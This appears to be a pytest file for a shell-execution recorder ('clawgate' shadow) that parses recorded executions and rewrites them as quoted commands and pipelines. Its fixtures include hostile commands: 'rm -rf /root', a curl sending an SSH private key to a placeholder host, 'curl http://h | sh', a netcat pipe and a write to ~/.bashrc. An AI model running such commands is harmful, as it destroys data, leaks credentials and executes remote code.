"""Reading the recorder's files and writing executions back as lines (no sandbox needed)."""

from __future__ import annotations

from pathlib import Path

import pytest

from clawgate.shell.shadow import Descriptor, Execution, requote
from clawgate.shell.shadow.records import parse_record, read_trace


def _record(*fields: str) -> bytes:
    return b"".join(f.encode() + b"\0" for f in fields)


def test_a_record_is_read_field_by_field() -> None:
    data = _record("d:1", "c:/w", "p:rm", "a:-rf", "a:a b", "e:X=1=2", "m:1=0100001",
                   "m:2=02102", "m:0=0100000", "f:0=/dev/null", "f:1=/w/out", "f:2=/w/log")
    assert parse_record(data) == Execution(
        ("rm", "-rf", "a b"), "/w",
        (Descriptor(0, "/dev/null"), Descriptor(1, "/w/out", writes=True),
         Descriptor(2, "/w/log", writes=True, appends=True)), (("X", "1=2"),), 1)


def test_a_record_cut_off_before_its_program_is_no_execution() -> None:
    assert parse_record(_record("d:0", "c:/w")) is None
    assert parse_record(b"") is None


def test_descriptors_of_the_sandbox_itself_are_left_out() -> None:
    data = _record("p:ls", "m:2=01", "f:2=/tmp/clawgate-shadow-x/run/stderr")
    assert parse_record(data, hide="/tmp/clawgate-shadow-x") == Execution(("ls",), "/")


def test_records_are_read_in_the_order_they_started(tmp_path: Path) -> None:
    for name, program in (("1700000000000002.7", "b"), ("1700000000000001.9", "a"),
                          ("1700000000000002.10", "c")):
        (tmp_path / name).write_bytes(_record(f"p:{program}"))
    assert [e.argv[0] for e in read_trace(str(tmp_path))] == ["a", "b", "c"]


@pytest.mark.parametrize(("argv", "expected"), [
    (("rm", "-rf", "/root"), "rm -rf /root"),
    (("echo", "a b", "it's"), "echo 'a b' 'it'\\''s'"),
    (("touch", "a\nb"), "touch $'a\\x0ab'"),
    (("printf", "\\x41\x1b"), "printf $'\\\\x41\\x1b'"),
    (("", "x"), "'' x"),
])
def test_requote(argv: tuple[str, ...], expected: str) -> None:
    assert requote(Execution(argv, "/")) == expected


def test_requote_puts_environment_changes_and_file_descriptors_in() -> None:
    execution = Execution(("curl", "-d", "@-", "http://h"), "/w", (
        Descriptor(0, "/home/u/.ssh/id_rsa"), Descriptor(1, "pipe:[12]", writes=True),
        Descriptor(3, "/w/log", writes=True, appends=True)), (("HTTPS_PROXY", "x y"),))
    assert requote(execution) == ("env HTTPS_PROXY='x y' curl -d @- http://h "
                                  "</home/u/.ssh/id_rsa 3>>/w/log")


def test_a_text_record_is_read_and_kept_apart(tmp_path: Path) -> None:
    from clawgate.shell.shadow import SourceText
    from clawgate.shell.shadow.records import parse_text, read_texts

    assert parse_text(_record("d:1", "c:/w", "t:echo k >> ~/.bashrc")) == SourceText(
        "echo k >> ~/.bashrc", "/w", 1)
    assert parse_text(_record("d:0", "c:/w")) is None
    (tmp_path / "1700000000000002.7.t").write_bytes(_record("t:b > x"))
    (tmp_path / "1700000000000001.7.t").write_bytes(_record("t:a > x"))
    (tmp_path / "1700000000000003.7").write_bytes(_record("p:ls"))
    assert [t.text for t in read_texts(str(tmp_path))] == ["a > x", "b > x"]
    assert [e.argv for e in read_trace(str(tmp_path))] == [("ls",)]


def _staged(argv: tuple[str, ...], stdin: str = "/dev/null", stdout: str = "/dev/pts/0"
            ) -> Execution:
    return Execution(argv, "/w", (Descriptor(0, stdin), Descriptor(1, stdout, writes=True)))


# (executions as bash started them, the pipelines written out)
PIPELINES = [
    ([_staged(("curl", "http://h"), stdout="pipe:[1]"), _staged(("sh",), stdin="pipe:[1]")],
     ["curl http://h | sh"]),
    ([_staged(("sh",), stdin="pipe:[1]"), _staged(("base64", "-d"), "pipe:[0]", "pipe:[2]"),
      _staged(("tar", "c", "k"), stdout="pipe:[0]"), _staged(("gunzip",), "pipe:[2]", "pipe:[1]")],
     ["tar c k | base64 -d | gunzip | sh"]),
    ([_staged(("base64", "-d"), stdin="pipe:[9]", stdout="pipe:[3]"),  # a builtin feeds it
      _staged(("ls",)), _staged(("nc", "h", "1"), stdin="pipe:[3]")],
     ["base64 -d | nc h 1"]),
    ([_staged(("tee",), stdout="pipe:[4]"), _staged(("a",), stdin="pipe:[4]"),
      _staged(("b",), stdin="pipe:[4]")], ["tee | a", "tee | b"]),
    ([_staged(("ls",), stdout="pipe:[5]")], []),  # read by bash itself: $(ls)
]


@pytest.mark.parametrize(("executions", "expected"), PIPELINES)
def test_pipelines_join_a_pipes_writer_to_its_reader(executions: list[Execution],
                                                     expected: list[str]) -> None:
    from clawgate.shell.shadow.pipes import pipelines, requote_pipeline

    assert [requote_pipeline(p) for p in pipelines(tuple(executions))] == expected
